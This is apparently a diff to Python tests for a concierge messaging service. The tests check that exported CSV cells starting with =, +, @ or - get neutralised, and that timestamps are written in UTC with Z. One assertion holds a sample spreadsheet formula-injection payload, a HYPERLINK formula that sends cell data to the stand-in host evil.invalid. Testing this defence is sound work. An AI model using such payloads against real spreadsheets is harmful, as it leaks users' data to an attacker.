@@ -22,9 +22,10 @@ from tasks.concierge_tasks import answer_question, process_event
 from tests.api.test_event_notifications import TRIP, event
 
 
-def _booked(app: Any, client: Any, auth: Any, event_id: str = "ev-booked") -> None:
-    """A trip.booked event, processed: one concierge message to the traveler and one to the host."""
-    assert client.post("/v1/events", json=event("trip.booked", "trip", TRIP, event_id),
+def _booked(app: Any, client: Any, auth: Any, event_id: str = "ev-booked", trip_id: int = TRIP["id"]) -> None:
+    """A trip.booked event, processed: one concierge message to the traveler and one to the host (a booking is
+    told once: another event needs another ``trip_id``)."""
+    assert client.post("/v1/events", json=event("trip.booked", "trip", {**TRIP, "id": trip_id}, event_id),
                        headers=auth("platform", "service")).status_code == 202
     with app.app_context():
         assert process_event.run(event_id) == "processed"
@@ -195,11 +196,7 @@ def assert_csv_neutralised(raw: str, exact: list[dict[str, Any]]) -> None:
     assert '"\'=HYPERLINK(""http://evil.invalid/?""&A1,""x"")"' in raw  # prefixed, and quoted as csv does
     rows = list(csv.DictReader(io.StringIO(raw, newline="")))
     assert [r["id"] for r in rows] == [m["id"] for m in exact]
-
-    def instant(value: str) -> dt.datetime:  # the CSV and the JSON may spell the same instant differently
-        return dt.datetime.fromisoformat(value)
-
-    assert [instant(r["createdAt"]) for r in rows] == [instant(m["createdAt"]) for m in exact]
+    assert [r["createdAt"] for r in rows] == [m["createdAt"] for m in exact]  # spelt alike: UTC with Z
     replies = [r for r in rows if r["userId"] == "'" + FORMULA_AUTHOR]
     assert [r["message"] for r in replies] == ["'" + text for text in FORMULAS]
     for row in rows:
@@ -214,7 +211,7 @@ def test_csv_cells_from_outside_are_neutralised_and_the_services_own_ids_kept() 
                "origin": {"kind": "event", "eventId": "+ev", "eventType": "@type", "questionMessageId": None,
                           "intent": "=intent"}, "edits": []}
     row = next(csv.DictReader(io.StringIO("".join(_csv([message], iter([]))), newline="")))
-    assert row == {"id": "-a1b2c3d4e5f6g7h8i9j0", "createdAt": "2026-12-01T09:30:00+00:00",
+    assert row == {"id": "-a1b2c3d4e5f6g7h8i9j0", "createdAt": "2026-12-01T09:30:00Z",
                    "senderType": "concierge", "userId": "'-user", "message": "'-1", "originKind": "event",
                    "eventId": "'+ev", "eventType": "'@type", "questionMessageId": "", "intent": "'=intent",
                    "edits": "0"}
